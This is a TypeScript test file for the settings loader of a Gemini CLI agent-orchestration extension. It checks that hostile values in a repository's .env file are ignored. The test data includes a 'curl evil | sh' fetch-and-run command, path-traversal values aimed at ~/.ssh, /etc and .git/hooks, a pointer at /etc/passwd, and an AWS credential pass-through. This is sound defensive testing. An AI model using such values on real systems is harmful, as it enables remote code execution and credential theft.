import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { parseEnv, usersOwn } from "./setting-layers.ts";
import { definitions, resolveSettings, type SettingName } from "./settings.ts";

let project: string;
let extension: string;
beforeEach(() => {
  project = mkdtempSync(join(tmpdir(), "maestro-settings-"));
  extension = join(project, "extension");
  mkdirSync(extension);
});
afterEach(() => rmSync(project, { recursive: true }));

const resolve = (env: Record<string, string> = {}) =>
  resolveSettings(project, { MAESTRO_EXTENSION_PATH: extension, HOME: project, ...env });

describe("defaults (E47-E58)", () => {
  test.each([
    ["MAESTRO_STATE_DIR", ".gemini"],
    ["MAESTRO_MAX_CONCURRENT", 0],
    ["MAESTRO_STAGGER_DELAY", 5],
    ["MAESTRO_AGENT_TIMEOUT", 10],
    ["MAESTRO_QUOTA_DELAY", 5],
    ["MAESTRO_PRICES", ""],
    ["MAESTRO_RUNTIMES", ""],
    ["MAESTRO_BUDGET", ""],
    ["MAESTRO_CLEANUP_DISPATCH", false],
    ["MAESTRO_DEFAULT_MODEL", ""],
    ["MAESTRO_WRITER_MODEL", ""],
    ["MAESTRO_GEMINI_EXTRA_ARGS", ""],
    ["MAESTRO_EXECUTION_MODE", "ask"],
    ["MAESTRO_MAX_RETRIES", 2],
    ["MAESTRO_AUTO_ARCHIVE", true],
    ["MAESTRO_DISABLED_AGENTS", ""],
    ["MAESTRO_ISOLATION", "auto"],
    ["MAESTRO_OWNERSHIP", "auto"],
    ["MAESTRO_SANDBOX", false],
    ["MAESTRO_WORKTREE_SETUP", ""],
    ["MAESTRO_KEEP_REFS", 10],
    ["MAESTRO_PASS_ENV", ""],
    ["MAESTRO_GUARD", "auto"],
    ["MAESTRO_WORKERS", ""],
    ["MAESTRO_EXCHANGE", ""],
    ["MAESTRO_WORKER_KEY", ""],
    ["MAESTRO_WORKER_KEY_FILE", ""],
    ["MAESTRO_QUEUE_PASSWORD", ""],
    ["MAESTRO_WORKER_LEASE", 60],
    ["MAESTRO_WORKER_RENEWAL", 10],
    ["MAESTRO_WORKER_SWEEP", 15],
    ["MAESTRO_ORPHAN_LIMIT", 10],
  ] as [SettingName, unknown][])("%s is %j", (name, value) => {
    expect(resolve().values[name]).toBe(value);
    expect(resolve().sources[name]).toBe("default");
  });

  test("every setting has a case above", () => {
    expect(Object.keys(definitions)).toHaveLength(32);
  });
});

describe("a project's .env (C48)", () => {
  const inProject = (line: string) => writeFileSync(join(project, ".env"), `${line}\n`);
  const inExtension = (line: string) => writeFileSync(join(extension, ".env"), `${line}\n`);

  test.each([
    ["MAESTRO_WORKTREE_SETUP=curl evil | sh", ""],
    ["MAESTRO_GEMINI_EXTRA_ARGS=--policy evil.toml", ""],
    ["MAESTRO_RUNTIMES=*=claude", ""],
    ["MAESTRO_PASS_ENV=AWS_*", ""],
    ["MAESTRO_GUARD=off", "auto"],
    ["MAESTRO_SANDBOX=false", false],
    ["MAESTRO_ISOLATION=none", "auto"],
    ["MAESTRO_OWNERSHIP=warn", "auto"],
    ["MAESTRO_KEEP_REFS=0", 10],
    ["MAESTRO_STATE_DIR=/etc/maestro", ".gemini"],
    ["MAESTRO_STATE_DIR=../../.ssh", ".gemini"],
    ["MAESTRO_STATE_DIR=~/.ssh", ".gemini"],
    ["MAESTRO_STATE_DIR=.git/hooks", ".gemini"],
    ["MAESTRO_STATE_DIR=..\\..\\x", ".gemini"],
    ["MAESTRO_PRICES=/etc/passwd", ""],
    ["MAESTRO_PRICES=a/../../x.json", ""],
    ["MAESTRO_EXECUTION_MODE=parallel", "ask"],
    ["MAESTRO_WORKERS=redis://elsewhere.example:6379", ""],
    ["MAESTRO_EXCHANGE=git@elsewhere.example:x.git", ""],
    [`MAESTRO_WORKER_KEY=${"k".repeat(32)}`, ""],
    ["MAESTRO_WORKER_KEY_FILE=key", ""],
    ["MAESTRO_QUEUE_PASSWORD=known-to-others", ""],
    ["MAESTRO_WORKER_LEASE=5", 60],
    ["MAESTRO_ORPHAN_LIMIT=100h", 10],
  ] as [string, unknown][])(
    "cannot run commands, loosen a protection, give consent or leave the project: %s",
    (line, value) => {
      const name = line.split("=")[0] as SettingName;
      inProject(line);
      const { values, cautions, proposedMode } = resolve();
      expect(values[name]).toBe(value);
      // A value equal to the default, or one that is only proposed, needs no warning.
      const isSaid = value !== definitions[name].parse(line.slice(line.indexOf("=") + 1)) && proposedMode === null;
      const said = cautions.filter((caution) => caution.startsWith(`${name} in ${join(project, ".env")} is ignored: `));
      expect(said).toHaveLength(isSaid ? 1 : 0);
      for (const caution of said) expect(caution).toContain(`export ${name}=`);
    },
  );

  test.each([
    ["MAESTRO_SANDBOX=true", true],
    ["MAESTRO_GUARD=always", "always"],
    ["MAESTRO_ISOLATION=worktree", "worktree"],
    ["MAESTRO_OWNERSHIP=strict", "strict"],
    ["MAESTRO_KEEP_REFS=30", 30],
    ["MAESTRO_STATE_DIR=.maestro/state", ".maestro/state"],
    ["MAESTRO_PRICES=prices.json", "prices.json"],
    ["MAESTRO_MAX_RETRIES=5", 5],
    ["MAESTRO_DEFAULT_MODEL=gemini-2.5-pro", "gemini-2.5-pro"],
  ] as [string, unknown][])("is obeyed where it tightens a setting or is neutral: %s", (line, value) => {
    inProject(line);
    expect(resolve()).toMatchObject({ values: { [line.split("=")[0] as string]: value }, cautions: [] });
  });

  test.each([
    ["MAESTRO_SANDBOX", "true", "false", true],
    ["MAESTRO_ISOLATION", "worktree", "auto", "worktree"],
    ["MAESTRO_OWNERSHIP", "strict", "auto", "strict"],
    ["MAESTRO_KEEP_REFS", "30", "20", 30],
    ["MAESTRO_GUARD", "always", "auto", "always"],
    ["MAESTRO_GUARD", "off", "auto", "auto"],
    ["MAESTRO_PASS_ENV", "APP_*", "AWS_*", "APP_*"],
    ["MAESTRO_PASS_ENV", "APP_?, DATABASE_*", "", "APP_?, DATABASE_*"],
    ["MAESTRO_DISABLED_AGENTS", "coder", "tester", "coder,tester"],
    ["MAESTRO_BUDGET", "5usd", "9usd", "5usd"],
    ["MAESTRO_BUDGET", "5usd", "3usd,2Mtok", "3usd,2Mtok"],
    ["MAESTRO_BUDGET", "", "3usd", "3usd"],
    ["MAESTRO_EXECUTION_MODE", "sequential", "parallel", "sequential"],
    ["MAESTRO_EXECUTION_MODE", "parallel", "ask", "ask"],
  ] as const)("is never looser than the user's own value: %s=%s against %s", (name, own, proposed, value) => {
    inExtension(`${name}=${own}`);
    inProject(`${name}=${proposed}`);
    expect(resolve().values[name]).toBe(value);
  });

  test("is overridden by an exported variable, stricter or looser", () => {
    inProject("MAESTRO_SANDBOX=true\nMAESTRO_WORKTREE_SETUP=evil");
    const { values, cautions } = resolve({ MAESTRO_SANDBOX: "false", MAESTRO_WORKTREE_SETUP: "npm ci" });
    expect(values).toMatchObject({ MAESTRO_SANDBOX: false, MAESTRO_WORKTREE_SETUP: "npm ci" });
    expect(cautions).toEqual([]);
  });

  test("is not taken for the user's own when Gemini CLI passes its values to a hook or a server", () => {
    inProject("MAESTRO_STATE_DIR=/etc/maestro\nMAESTRO_EXECUTION_MODE=parallel");
    const handed = { MAESTRO_STATE_DIR: "/etc/maestro", MAESTRO_EXECUTION_MODE: "parallel" };
    for (const sign of [{ GEMINI_CLI: "1" }, { GEMINI_PROJECT_DIR: project }]) {
      const { values } = resolve({ ...handed, ...sign });
      expect(values).toMatchObject({ MAESTRO_STATE_DIR: ".gemini", MAESTRO_EXECUTION_MODE: "ask" });
    }
    expect(resolve({ MAESTRO_STATE_DIR: "/other", GEMINI_CLI: "1" }).values.MAESTRO_STATE_DIR).toBe("/other");
  });

  test.each([
    ["MAESTRO_GEMINI_EXTRA_ARGS: --foo", "--foo"],
    ["MAESTRO_GEMINI_EXTRA_ARGS=--foo#x", "--foo"],
    ["MAESTRO_GEMINI_EXTRA_ARGS=`--foo`", "--foo"],
    ["MAESTRO_GEMINI_EXTRA_ARGS='--foo\\'s'", "--foo\\'s"],
  ])("is not taken for the user's own where only Gemini CLI reads %j so", (line, loaded) => {
    inProject(line);
    const env = { MAESTRO_GEMINI_EXTRA_ARGS: loaded, GEMINI_CLI: "1" };
    expect(usersOwn(env, project)).toEqual({ GEMINI_CLI: "1" });
  });

  test.each([[".gemini"], [".."], ["../.gemini"]])(
    "is not taken for the user's own when Gemini CLI loads it from %s, unless that is the home",
    (place) => {
      const root = join(project, "deep");
      mkdirSync(join(root, place), { recursive: true });
      writeFileSync(join(root, place, ".env"), "MAESTRO_GUARD=off\n");
      const env = { MAESTRO_GUARD: "off", GEMINI_CLI: "1", HOME: join(project, "home") };
      expect(usersOwn(env, root)).toEqual({ GEMINI_CLI: "1", HOME: join(project, "home") });
      if (place === ".gemini") return;
      expect(usersOwn({ ...env, HOME: project }, root)).toMatchObject({ MAESTRO_GUARD: "off" });
    },
  );

  test("cannot replace the extension's path or an attempt's variables", () => {
    const elsewhere = join(project, "elsewhere");
    mkdirSync(elsewhere);
    writeFileSync(join(elsewhere, ".env"), "MAESTRO_SANDBOX=false\nMAESTRO_MAX_RETRIES=9\n");
    inProject(
      `MAESTRO_EXTENSION_PATH=${elsewhere}\nMAESTRO_AGENT=coder\nMAESTRO_RUN=r.1\nMAESTRO_ATTEMPT_STATE_DIR=/state`,
    );
    const env = { MAESTRO_EXTENSION_PATH: elsewhere, GEMINI_CLI: "1" };
    expect(resolve(env).values.MAESTRO_MAX_RETRIES).toBe(2);
    const attempt = { MAESTRO_AGENT: "coder", MAESTRO_RUN: "r.1", MAESTRO_ATTEMPT_STATE_DIR: "/state" };
    expect(usersOwn({ ...env, ...attempt }, project)).toEqual({
      GEMINI_CLI: "1",
      ...attempt,
    });
    expect(resolve({ ...env, ...attempt }).values.MAESTRO_STATE_DIR).toBe("/state");
  });

  test("proposes an execution mode", () => {
    inProject("MAESTRO_EXECUTION_MODE=sequential");
    expect(resolve()).toMatchObject({ values: { MAESTRO_EXECUTION_MODE: "ask" }, proposedMode: "sequential" });
    expect(resolve({ MAESTRO_EXECUTION_MODE: "parallel" })).toMatchObject({ proposedMode: null });
  });

  test.each(["--include-directories=/", "-x", "a b", "a\u202eb"])(
    "cannot name a model that looks like an option or is malformed: %j",
    (name) => {
      inProject(`MAESTRO_DEFAULT_MODEL="${name}"`);
      expect(() => resolve()).toThrow("MAESTRO_DEFAULT_MODEL must be a model name");
    },
  );
});

describe("precedence (E44, E59, C16)", () => {
  const layers = { environment: "7", "workspace .env": "8", "extension .env": "9" };
  test.each([
    [["environment", "workspace .env", "extension .env"], 7, "environment"],
    [["workspace .env", "extension .env"], 8, "workspace .env"],
    [["extension .env"], 9, "extension .env"],
  ] as [(keyof typeof layers)[], number, string][])("%j gives %i", (given, value, source) => {
    const env: Record<string, string> = {};
    for (const layer of given) {
      if (layer === "environment") env.MAESTRO_MAX_RETRIES = layers[layer];
      else
        writeFileSync(
          join(layer === "workspace .env" ? project : extension, ".env"),
          `MAESTRO_MAX_RETRIES=${layers[layer]}\n`,
        );
    }
    expect(resolve(env).values.MAESTRO_MAX_RETRIES).toBe(value);
    expect(resolve(env).sources.MAESTRO_MAX_RETRIES).toBe(source);
  });

  test("reads the extension's .env from $HOME/.gemini/extensions/maestro without MAESTRO_EXTENSION_PATH (E45)", () => {
    const home = join(project, ".gemini", "extensions", "maestro");
    mkdirSync(home, { recursive: true });
    writeFileSync(join(home, ".env"), "MAESTRO_STATE_DIR=from-home\n");
    expect(resolveSettings(project, { HOME: project }).values.MAESTRO_STATE_DIR).toBe("from-home");
    expect(resolveSettings(project, { HOME: project, MAESTRO_EXTENSION_PATH: "" }).values.MAESTRO_STATE_DIR).toBe(
      "from-home",
    );
  });

  test("treats an empty variable as unset", () => {
    writeFileSync(join(project, ".env"), "MAESTRO_STATE_DIR=from-file\n");
    expect(resolve({ MAESTRO_STATE_DIR: "" }).values.MAESTRO_STATE_DIR).toBe("from-file");
  });

  test("does not let a repository choose where agents come from", () => {
    writeFileSync(join(project, ".env"), `MAESTRO_EXTENSION_PATH=${project}/evil\nMAESTRO_STATE_DIR=x\n`);
    writeFileSync(join(extension, ".env"), "MAESTRO_MAX_RETRIES=4\n");
    expect(resolve().values.MAESTRO_MAX_RETRIES).toBe(4);
  });

  test("ignores a directory named .env", () => {
    mkdirSync(join(project, ".env"));
    expect(resolve().values.MAESTRO_STATE_DIR).toBe(".gemini");
  });
});

describe("invalid values (E61, C2)", () => {
  test.each([
    ["MAESTRO_STAGGER_DELAY", "x", "MAESTRO_STAGGER_DELAY must be a non-negative integer (got: x)"],
    ["MAESTRO_STAGGER_DELAY", "-1", "MAESTRO_STAGGER_DELAY must be a non-negative integer (got: -1)"],
    ["MAESTRO_MAX_CONCURRENT", "1.5", "MAESTRO_MAX_CONCURRENT must be a non-negative integer (got: 1.5)"],
    ["MAESTRO_MAX_CONCURRENT", "1e3", "MAESTRO_MAX_CONCURRENT must be a non-negative integer (got: 1e3)"],
    [
      "MAESTRO_MAX_CONCURRENT",
      "99999999999",
      "MAESTRO_MAX_CONCURRENT must be a non-negative integer (got: 99999999999)",
    ],
    [
      "MAESTRO_AGENT_TIMEOUT",
      "0",
      "MAESTRO_AGENT_TIMEOUT must be a positive integer of minutes, or a duration such as 90s (got: 0)",
    ],
    [
      "MAESTRO_AGENT_TIMEOUT",
      "1.5",
      "MAESTRO_AGENT_TIMEOUT must be a positive integer of minutes, or a duration such as 90s (got: 1.5)",
    ],
    [
      "MAESTRO_AGENT_TIMEOUT",
      "10 minutes",
      "MAESTRO_AGENT_TIMEOUT must be a positive integer of minutes, or a duration such as 90s (got: 10 minutes)",
    ],
    [
      "MAESTRO_QUOTA_DELAY",
      "soon",
      "MAESTRO_QUOTA_DELAY must be a positive number, or a duration such as 90s (got: soon)",
    ],
    ["MAESTRO_EXECUTION_MODE", "fast", "MAESTRO_EXECUTION_MODE must be one of parallel, sequential, ask (got: fast)"],
    ["MAESTRO_ISOLATION", "yes", "MAESTRO_ISOLATION must be one of auto, worktree, none (got: yes)"],
    ["MAESTRO_OWNERSHIP", "none", "MAESTRO_OWNERSHIP must be one of auto, strict, warn (got: none)"],
    ["MAESTRO_KEEP_REFS", "-1", "MAESTRO_KEEP_REFS must be a non-negative integer (got: -1)"],
    ["MAESTRO_AUTO_ARCHIVE", "maybe", "MAESTRO_AUTO_ARCHIVE must be true or false (got: maybe)"],
  ])("rejects %s=%s", (name, value, message) => {
    expect(() => resolve({ [name]: value })).toThrow(expect.objectContaining({ code: "config", message }));
  });

  test.each([
    ["MAESTRO_WORKERS", "redis://:hunter2@host:6379"],
    ["MAESTRO_EXCHANGE", "https://me:hunter2@host.example/x.git"],
    ["MAESTRO_WORKER_KEY", "hunter2"],
  ])("rejects %s without quoting a value that may contain a secret", (name, value) => {
    const refused = expect.objectContaining({ code: "config", message: expect.not.stringContaining("hunter2") });
    expect(() => resolve({ [name]: value })).toThrow(refused);
  });

  test("reads the times of workers as durations", () => {
    const { values } = resolve({ MAESTRO_WORKER_LEASE: "1500ms", MAESTRO_ORPHAN_LIMIT: "30s" });
    expect(values).toMatchObject({ MAESTRO_WORKER_LEASE: 1.5, MAESTRO_ORPHAN_LIMIT: 0.5 });
  });

  test("names the file an invalid value comes from", () => {
    writeFileSync(join(project, ".env"), "MAESTRO_MAX_RETRIES=many\n");
    expect(() => resolve()).toThrow(expect.objectContaining({ hint: "It is set in the workspace .env." }));
  });

  test.each([
    ["10", 10],
    ["90s", 1.5],
    ["2h", 120],
    ["600ms", 0.01],
  ])("reads a timeout of %s as %s minutes", (value, minutes) => {
    expect(resolve({ MAESTRO_AGENT_TIMEOUT: value }).values.MAESTRO_AGENT_TIMEOUT).toBe(minutes);
  });

  test("warns about a timeout above 60 minutes", () => {
    expect(resolve({ MAESTRO_AGENT_TIMEOUT: "61" }).cautions).toHaveLength(1);
    expect(resolve({ MAESTRO_AGENT_TIMEOUT: "60" }).cautions).toEqual([]);
  });
});

describe(".env files", () => {
  test.each([
    ["A=1", "1"],
    ["export A=1", "1"],
    ["  A = 1  ", "1"],
    ["A=1 # comment", "1"],
    ["A=a#b", "a#b"],
    ['A="x # y"', "x # y"],
    ["A='$HOME'", "$HOME"],
    ['A="line\\nbreak"', "line\nbreak"],
    ['A="two\nlines"', "two\nlines"],
    ["A=1\r\nB=2\r\n", "1"],
    ["\uFEFFA=1", "1"],
    ["A=1\nA=2", "2"],
    ["#A=1\nA=", ""],
    ["B=1", undefined],
    ["not an assignment\nA=1", "1"],
  ])("%j", (text, value) => {
    expect(parseEnv(text).A).toBe(value);
  });

  test("handles names of prototype properties like any other name", () => {
    expect(parseEnv("__proto__=1\nconstructor=2").constructor).toBe("2");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
